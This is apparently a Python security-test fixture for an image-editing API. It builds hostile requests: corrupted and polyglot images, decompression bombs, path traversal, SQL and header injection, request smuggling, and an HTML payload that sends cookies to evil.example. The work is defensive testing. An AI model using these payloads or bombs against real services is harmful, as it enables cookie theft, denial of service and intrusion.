"""A corpus of hostile (and awkward-but-valid) requests, each built by code.

Every ``Case`` is one HTTP request and what the service must answer:

* ``status``/``code``: a 4xx problem with that stable code; it costs nothing and leaves the
  service healthy (tests/security/test_hostile.py checks all of that for each case);
* ``status=200``: a *valid* input however odd (1x1, 1x40,000, CMYK, 16-bit, palette with
  transparency, animated GIF/WebP/PNG: the first frame is used, polyglots that are real images:
  the extra payload never reaches the output); it runs and is charged like any photo.

Images are made with Pillow (and pillow-heif for HEIC), then cut, corrupted or patched.
"""

from __future__ import annotations

import io
import json
import struct
import zlib
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any, Callable

import numpy as np
from PIL import Image
from pillow_heif import register_heif_opener

register_heif_opener()

MAX_UPLOAD = 20 * 1024 * 1024  # the default TRIALZONE_MAX_UPLOAD_BYTES the corpus is run with
BODY_LIMIT = MAX_UPLOAD + 1024 * 1024


@dataclass
class Case:
    name: str
    status: int
    code: str | None = None  # None for a 200
    feature: str = "cutout"
    method: str = "POST"
    path: str | None = None  # default: /v1/operations/{feature}
    files: Any = None  # list of (field, (filename, bytes, content type)) or None
    data: dict[str, str] | None = None
    content: bytes | None = None
    headers: dict[str, str | bytes] = field(default_factory=dict)
    staff: bool = False  # send the admin credential instead of the user's
    payload_marker: bytes | None = None  # a 200 must not carry these bytes (polyglots)

    def target(self) -> str:
        return self.path or f"/v1/operations/{self.feature}"


# --- pictures -----------------------------------------------------------------------------------

@lru_cache
def picture(width: int = 160, height: int = 120) -> Image.Image:
    """A photo-like picture: a bright disc (a subject) on a gradient."""
    y, x = np.mgrid[0:height, 0:width]
    base = np.stack([x * 255 // max(width - 1, 1), y * 255 // max(height - 1, 1),
                     np.full_like(x, 90)], axis=-1).astype(np.uint8)
    disc = (x - width / 2) ** 2 + (y - height / 2) ** 2 < (min(width, height) / 3) ** 2
    base[disc] = (250, 230, 40)
    return Image.fromarray(base, "RGB")


def encoded(image: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


@lru_cache
def jpeg() -> bytes:
    return encoded(picture(), "JPEG", quality=90)


@lru_cache
def png() -> bytes:
    return encoded(picture(), "PNG")


@lru_cache
def webp() -> bytes:
    return encoded(picture(), "WEBP", quality=80)


@lru_cache
def heic() -> bytes:
    return encoded(picture(), "HEIF", quality=80)


def truncated(data: bytes, share: float = 0.4) -> bytes:
    return data[: int(len(data) * share)]


def flipped(data: bytes, start: int, count: int = 64, seed: int = 7) -> bytes:
    """``count`` bytes from ``start`` replaced by noise."""
    rng = np.random.default_rng(seed)
    noise = rng.integers(0, 256, count, dtype=np.uint8).tobytes()
    return data[:start] + noise + data[start + count:]


def jpeg_without_huffman_tables() -> bytes:
    """The DHT segments replaced by a bogus one: the scan cannot be decoded."""
    data = bytearray(jpeg())
    i = 2
    while i < len(data) - 4:
        marker, length = data[i + 1], struct.unpack(">H", data[i + 2:i + 4])[0]
        if marker == 0xC4:  # DHT: fill its body with garbage counts
            data[i + 4:i + 2 + length] = bytes([0xFF]) * (length - 2)
        if marker == 0xDA:
            break
        i += 2 + length
    return bytes(data)


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real JPEG whose SOF0 says another size (a decompression bomb in 1 kB)."""
    data = bytearray(jpeg())
    i = data.index(b"\xff\xc0")
    data[i + 5:i + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_declaring(width: int, height: int, payload: bytes = b"\0" * 64) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(payload, 9))
            + png_chunk(b"IEND", b""))


def png_zlib_bomb() -> bytes:
    """10,000 x 10,000 (100 MP, over the limit) of zeros: a 100 kB file that inflates to 300 MB."""
    row = b"\0" + b"\0" * 30_000
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(10_000)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", 10_000, 10_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def png_with_bad_ihdr_crc() -> bytes:
    data = bytearray(png())
    data[29:33] = b"\0\0\0\0"  # the IHDR chunk's CRC
    return bytes(data)


def png_rgb16(width: int = 64, height: int = 48) -> bytes:
    """48-bit RGB (Pillow cannot write it): rows of 16-bit big-endian samples."""
    rgb = np.asarray(picture(width, height), dtype=np.uint16) * 257
    raw = b"".join(b"\0" + rgb[y].astype(">u2").tobytes() for y in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 16, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(raw))
            + png_chunk(b"IEND", b""))


def grey16() -> bytes:
    array = (np.asarray(picture().convert("L"), dtype=np.uint16) * 257).astype(np.uint16)
    return encoded(Image.fromarray(array), "PNG")  # mode I;16


def palette_with_transparency() -> bytes:
    image = picture().convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    return encoded(image, "PNG", transparency=0)


def frames(count: int = 3) -> list[Image.Image]:
    return [picture().rotate(20 * i) for i in range(count)]


def animated(fmt: str) -> bytes:
    first, *rest = frames()
    params = {"save_all": True, "append_images": rest, "duration": 100, "loop": 0}
    if fmt == "GIF":
        return encoded(first.convert("P"), "GIF", **params)
    return encoded(first, fmt, **params)


def gif_declaring(width: int, height: int) -> bytes:
    data = bytearray(encoded(picture(8, 8).convert("P"), "GIF"))
    data[6:10] = struct.pack("<HH", width, height)  # the logical screen
    i = data.index(b"\x2c")  # the image descriptor
    data[i + 5:i + 9] = struct.pack("<HH", width, height)
    return bytes(data)


def webp_declaring(width: int, height: int) -> bytes:
    """A lossy WebP whose VP8 frame header claims another size."""
    data = bytearray(webp())
    i = data.index(b"\x9d\x01\x2a")  # VP8 start code, then 14-bit width and height
    data[i + 3:i + 7] = struct.pack("<HH", width & 0x3FFF, height & 0x3FFF)
    return bytes(data)


SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
       b'<script>alert(1)</script><circle cx="50" cy="50" r="40"/></svg>')
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")
HTML_PAYLOAD = b"<script>document.location='https://evil.example/?c='+document.cookie</script>"


def zip_bytes() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", HTML_PAYLOAD)
    return out.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A real JPEG with a ZIP after its end marker (opens as both)."""
    return jpeg() + zip_bytes()


def gif_script_polyglot() -> bytes:
    """A real GIF whose comment extension carries a script."""
    data = encoded(picture(32, 32).convert("P"), "GIF", comment=HTML_PAYLOAD)
    assert HTML_PAYLOAD in data
    return data


def png_signature_then_html() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"<html><body>" + HTML_PAYLOAD + b"</body></html>"


def pdf_with_jpeg_magic() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + PDF


def photo_file(data: bytes, name: str = "photo.jpg", ctype: str = "image/jpeg", fieldname: str = "image"):
    return [(fieldname, (name, data, ctype))]


def multipart(parts: list[bytes], boundary: str = "B0undary") -> tuple[bytes, dict[str, str]]:
    body = b"".join(b"--" + boundary.encode() + b"\r\n" + p + b"\r\n" for p in parts) + b"--" + boundary.encode() + b"--\r\n"
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def text_part(name: str, value: bytes, extra: str = "") -> bytes:
    return f'Content-Disposition: form-data; name="{name}"\r\n{extra}\r\n'.encode() + value


def file_part(name: str, value: bytes, filename: str = "photo.jpg", ctype: str = "image/jpeg") -> bytes:
    return (f'Content-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
            f"Content-Type: {ctype}\r\n\r\n").encode() + value


def nested_json(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


# --- the corpus -------------------------------------------------------------------------------------

def build() -> list[Case]:
    cases: list[Case] = []
    add = cases.append
    bad_image = lambda name, data, fname="photo.jpg", ctype="image/jpeg", status=415, code="unsupported_image": add(  # noqa: E731
        Case(name, status, code, files=photo_file(data, fname, ctype)))

    # Truncated and corrupted images, each format
    bad_image("truncated jpeg", truncated(jpeg()))
    bad_image("truncated png", truncated(png()), "p.png", "image/png")
    bad_image("truncated webp", truncated(webp()), "p.webp", "image/webp")
    bad_image("truncated heic", truncated(heic()), "p.heic", "image/heic")
    bad_image("jpeg without huffman tables", jpeg_without_huffman_tables())
    bad_image("jpeg header only", jpeg()[:200])
    bad_image("png with corrupt pixel data", flipped(png(), len(png()) // 2), "p.png", "image/png")
    bad_image("png with a bad IHDR checksum", png_with_bad_ihdr_crc(), "p.png", "image/png")
    bad_image("webp with corrupt frame", flipped(webp(), 30, 200), "p.webp", "image/webp")
    bad_image("heic with corrupt boxes", flipped(heic(), 16, 400), "p.heic", "image/heic")
    bad_image("random bytes", np.random.default_rng(1).integers(0, 256, 4096, dtype=np.uint8).tobytes())
    bad_image("zero-byte file", b"")

    # Decompression bombs: huge declared size, tiny file
    too_large = dict(status=413, code="image_too_large")
    bad_image("png declaring 50k x 50k", png_declaring(50_000, 50_000), "b.png", "image/png", **too_large)
    bad_image("png zlib bomb 10k x 10k", png_zlib_bomb(), "b.png", "image/png", **too_large)
    bad_image("jpeg declaring 65k x 65k", jpeg_declaring(65_000, 65_000), **too_large)
    bad_image("gif declaring 65k x 65k", gif_declaring(65_535, 65_535), "b.gif", "image/gif", **too_large)
    bad_image("webp declaring 16k x 16k", webp_declaring(16_383, 16_383), "b.webp", "image/webp", **too_large)
    bad_image("png declaring 0 x 0", png_declaring(0, 0), "b.png", "image/png")

    # Not images at all, under image names
    bad_image("svg renamed .jpg", SVG)
    bad_image("svg as image/svg+xml", SVG, "x.svg", "image/svg+xml")
    bad_image("pdf renamed .png", PDF, "doc.png", "image/png")
    bad_image("pdf behind a jpeg magic number", pdf_with_jpeg_magic())
    bad_image("png signature then html", png_signature_then_html(), "x.png", "image/png")
    bad_image("html page", b"<!doctype html><html>" + HTML_PAYLOAD + b"</html>", "x.jpg", "text/html")
    bad_image("zip archive", zip_bytes(), "x.jpg", "application/zip")

    # Valid however odd: 200 (and charged)
    ok = lambda name, data, fname="photo.jpg", ctype="image/jpeg", **kw: add(  # noqa: E731
        Case(name, 200, None, files=photo_file(data, fname, ctype), **kw))
    ok("1x1 png", encoded(picture(1, 1), "PNG"), "one.png", "image/png")
    ok("1x40000 png", encoded(Image.new("RGB", (1, 40_000), (200, 30, 30)), "PNG"), "thin.png", "image/png")
    ok("40000x1 png", encoded(Image.new("RGB", (40_000, 1), (30, 200, 30)), "PNG"), "flat.png", "image/png")
    ok("cmyk jpeg", encoded(picture().convert("CMYK"), "JPEG", quality=90))
    ok("16-bit greyscale png", grey16(), "g16.png", "image/png")
    ok("48-bit rgb png", png_rgb16(), "rgb16.png", "image/png")
    ok("palette png with transparency", palette_with_transparency(), "pal.png", "image/png")
    ok("animated gif", animated("GIF"), "anim.gif", "image/gif")
    ok("animated webp", animated("WEBP"), "anim.webp", "image/webp")
    ok("animated png", animated("PNG"), "anim.png", "image/png")
    ok("heic", heic(), "p.heic", "image/heic")
    ok("jpeg+zip polyglot", jpeg_zip_polyglot(), payload_marker=HTML_PAYLOAD)
    ok("gif with a script comment", gif_script_polyglot(), "x.gif", "image/gif", payload_marker=HTML_PAYLOAD)
    ok("jpeg sent as application/octet-stream", jpeg(), "blob", "application/octet-stream")

    # Multipart: sizes, types, fields
    add(Case("huge multipart part", 413, "image_too_large", files=photo_file(b"\xff" * (BODY_LIMIT + 1))))
    add(Case("huge text field", 422, "invalid_option", files=photo_file(jpeg()), data={"format": "p" * 5_000_000}))
    add(Case("missing image", 422, "missing_field", data={"format": "png"}))
    add(Case("image sent as text", 415, "unsupported_image", data={"image": "/9j/4AAQSkZJRgABAQ=="}))
    add(Case("image field twice", 400, "duplicate_field",
             files=photo_file(jpeg()) + photo_file(png(), "p.png", "image/png")))
    add(Case("option twice", 400, "duplicate_field", files=photo_file(jpeg()) + [("format", (None, b"png")),
                                                                                     ("format", (None, b"webp"))]))
    add(Case("no body", 400, "empty_body"))
    add(Case("json instead of a form", 400, "invalid_request", content=b'{"image": "x"}',
             headers={"Content-Type": "application/json"}))
    add(Case("raw jpeg body", 400, "invalid_request", content=jpeg(), headers={"Content-Type": "image/jpeg"}))
    add(Case("text/plain body", 400, "invalid_request", content=b"image=1", headers={"Content-Type": "text/plain"}))
    add(Case("multipart without a boundary", 400, "invalid_request", content=b"--x\r\n\r\n",
             headers={"Content-Type": "multipart/form-data"}))
    body, headers = multipart([b"garbage without headers"])
    add(Case("malformed multipart", 400, "invalid_request", content=body, headers=headers))
    add(Case("multipart cut mid-part", 400, "invalid_request",
             content=multipart([file_part("image", jpeg())])[0][:600],
             headers=multipart([])[1]))
    body, headers = multipart([file_part("image", jpeg()), text_part("format", b"\xff\xfepng")])
    add(Case("non-utf-8 text field", 400, "invalid_request", content=body, headers=headers))
    body, headers = multipart([file_part("image", jpeg()),
                               text_part("format", b"png", "Content-Type: text/plain; charset=x-no-such-charset\r\n")])
    add(Case("unknown charset in a part", 400, "invalid_request", content=body, headers=headers))
    body, headers = multipart([file_part("image", jpeg())] + [text_part(f"f{i}", b"x") for i in range(1200)])
    add(Case("1200 form parts", 400, "invalid_request", content=body, headers=headers))

    # Absurd option values
    options = {
        "format gif": ({"format": "gif"}, "invalid_option"),
        "format path": ({"format": "../../etc/passwd"}, "invalid_option"),
        "background not a colour": ({"background": "#zzzzzz"}, "invalid_option"),
        "background injection": ({"background": "#fff\r\nX-Injected: 1"}, "invalid_option"),
        "mask_only maybe": ({"mask_only": "maybe"}, "invalid_option"),
        "size enormous": ({"size": "9" * 400}, "invalid_option"),
        "model path traversal": ({"model": "../../../../etc/passwd"}, "model_unavailable"),
        "model null byte": ({"model": "u2netp\x00.onnx"}, "model_unavailable"),
        "unknown option": ({"sharpen": "11"}, "invalid_option"),
    }
    for name, (data, code) in options.items():
        add(Case(f"cutout {name}", 422, code, files=photo_file(jpeg()), data=data))
    pet = {
        "size negative": {"size": "-1"},
        "size 10^30": {"size": "1" + "0" * 30},
        "blend weights infinite": {"blend": "0:1e309,1:1"},
        "style 10^6": {"style": "1000000"},
        "style and blend": {"style": "1", "blend": "0:1,1:1"},
        "background gradient of 3": {"background": "#000000,#ffffff,#ff0000"},
    }
    for name, data in pet.items():
        add(Case(f"pet-avatar {name}", 422, "invalid_option", feature="pet-avatar", files=photo_file(jpeg()), data=data))

    # Removal: strokes and boxes as hostile JSON
    removal = {
        "strokes not json": ({"strokes": "[[[{"}, "invalid_strokes"),
        "strokes nan": ({"strokes": '[{"points": [[NaN, 1]], "width": 5}]'}, "invalid_strokes"),
        "strokes width 1e308": ({"strokes": '[{"points": [[1, 1]], "width": 1e308}]'}, "invalid_strokes"),
        "strokes negative": ({"strokes": '[{"points": [[-5, 1]], "width": 5}]'}, "invalid_strokes"),
        "strokes nested 100k deep": ({"strokes": nested_json(100_000).decode()}, "invalid_strokes"),
        "strokes 300 kB": ({"strokes": json.dumps([{"points": [[1, 1]] * 40_000, "width": 2}])}, "invalid_strokes"),
        "boxes 1e308": ({"boxes": "[[0, 0, 1e308, 1e308]]"}, "invalid_boxes"),
        "boxes wrong shape": ({"boxes": '[[0, 0, 5]]'}, "invalid_boxes"),
        "boxes cover everything": ({"boxes": "[[0, 0, 160, 120]]"}, "area_too_large"),
        "mask and boxes": ({"boxes": "[[1, 1, 5, 5]]", "strokes": '[{"points": [[1, 1]], "width": 2}]'},
                           "area_conflict"),
        "no area": ({}, "area_missing"),
    }
    for name, (data, code) in removal.items():
        add(Case(f"removal {name}", 422, code, feature="removal", files=photo_file(jpeg()), data=data))
    body, headers = multipart([file_part("image", jpeg()), file_part("strokes", b"\xff\xfe[{]", "s.json",
                                                                     "application/json")])
    add(Case("removal non-utf-8 strokes file", 422, "invalid_strokes", feature="removal", content=body,
             headers=headers))
    add(Case("removal mask is a pdf", 422, "invalid_mask", feature="removal",
             files=photo_file(jpeg()) + photo_file(PDF, "m.png", "image/png", fieldname="mask")))

    # Staff JSON: non-UTF-8, oversized, nested, wrong types
    grants = "/v1/admin/grants"
    grant = {"user_id": "someone", "kind": "adjustment", "amount": 1000, "source_ref": "t-1"}

    def staff(name: str, content: bytes, status: int = 400, code: str = "invalid_request",
              ctype: str = "application/json") -> None:
        add(Case(name, status, code, path=grants, content=content, headers={"Content-Type": ctype}, staff=True))

    staff("grant non-utf-8 json", b'{"user_id": "\xff\xfe", "kind": "adjustment"}')
    staff("grant latin-1 json", json.dumps(grant).replace("someone", "s\u00e9").encode("latin-1"))
    staff("grant json nested 100k deep", nested_json(100_000))
    staff("grant oversized json", b'{"user_id": "' + b"a" * (BODY_LIMIT + 10) + b'"}', 413, "image_too_large")
    staff("grant 2 MB note", json.dumps(grant | {"note": "n" * 2_000_000}).encode())
    staff("grant amount 10^30", json.dumps(grant | {"amount": 10**30}).encode())
    staff("grant amount negative", json.dumps(grant | {"amount": -5}).encode())
    staff("grant amount as words", json.dumps(grant | {"amount": "a thousand"}).encode())
    staff("grant unknown field", json.dumps(grant | {"actor": "root"}).encode())
    staff("grant unknown kind", json.dumps(grant | {"kind": "free_money"}).encode())
    staff("grant not an object", b"[1, 2, 3]")
    staff("grant empty body", b"")
    staff("grant as a form", b"user_id=x&amount=5", ctype="application/x-www-form-urlencoded")

    # Headers and URLs
    add(Case("idempotency key too long", 400, "invalid_request", files=photo_file(jpeg()),
             headers={"Idempotency-Key": "k" * 256}))
    add(Case("idempotency key with a space", 400, "invalid_request", files=photo_file(jpeg()),
             headers={"Idempotency-Key": "two words"}))
    add(Case("idempotency key non-ascii", 400, "invalid_request", files=photo_file(jpeg()),
             headers={"Idempotency-Key": "ключ".encode()}))
    add(Case("unknown feature", 404, "unknown_feature", feature="rm -rf", files=photo_file(jpeg())))
    add(Case("feature path traversal", 404, "not_found", path="/v1/operations/..%2F..%2Fetc%2Fpasswd",
             files=photo_file(jpeg())))
    add(Case("operation id 10k chars", 404, "not_found", method="GET", path="/v1/operations/" + "a" * 10_000))
    add(Case("operation id sql", 404, "not_found", method="GET", path="/v1/operations/1'%20OR%20'1'='1"))
    add(Case("list limit absurd", 400, "invalid_request", method="GET", path="/v1/operations?limit=99999999999999999999"))
    add(Case("list before not a date", 400, "invalid_request", method="GET", path="/v1/operations?before=yesterday"))
    add(Case("ledger before_id absurd", 400, "invalid_request", method="GET",
             path="/v1/me/ledger?before_id=1e999"))
    return cases


CORPUS: list[Case] = build()
BY_NAME: dict[str, Case] = {c.name: c for c in CORPUS}
assert len(BY_NAME) == len(CORPUS), "case names must be unique"

# Header injection at the wire (raw requests to a real server): uvicorn's HTTP parser refuses
# them before the app sees anything (400, its own plain-text body); the app's own checks are
# exercised in process (tests/security/test_hostile.py::test_header_injection_in_process).
WIRE_INJECTIONS: dict[str, Callable[[str], bytes]] = {
    "CR LF inside a header value": lambda auth: (
        "GET /v1/me/balance HTTP/1.1\r\nHost: x\r\nX-User-Id: alice\rX-Admin: yes\r\n\r\n").encode(),
    "obsolete line folding": lambda auth: (
        f"GET /v1/me/balance HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer\r\n {auth}\r\n\r\n").encode(),
    "NUL in a header value": lambda auth: b"GET /v1/me/balance HTTP/1.1\r\nHost: x\r\nIdempotency-Key: a\x00b\r\n\r\n",
    "space before the colon": lambda auth: (
        f"GET /v1/me/balance HTTP/1.1\r\nHost: x\r\nAuthorization : Bearer {auth}\r\n\r\n").encode(),
    "request smuggling: two lengths": lambda auth: (
        "POST /v1/operations/cutout HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nabcd").encode(),
    "request smuggling: length and chunked": lambda auth: (
        "POST /v1/operations/cutout HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        "0\r\n\r\nGET /v1/admin/users/x/ledger HTTP/1.1\r\nHost: x\r\n\r\n").encode(),
}
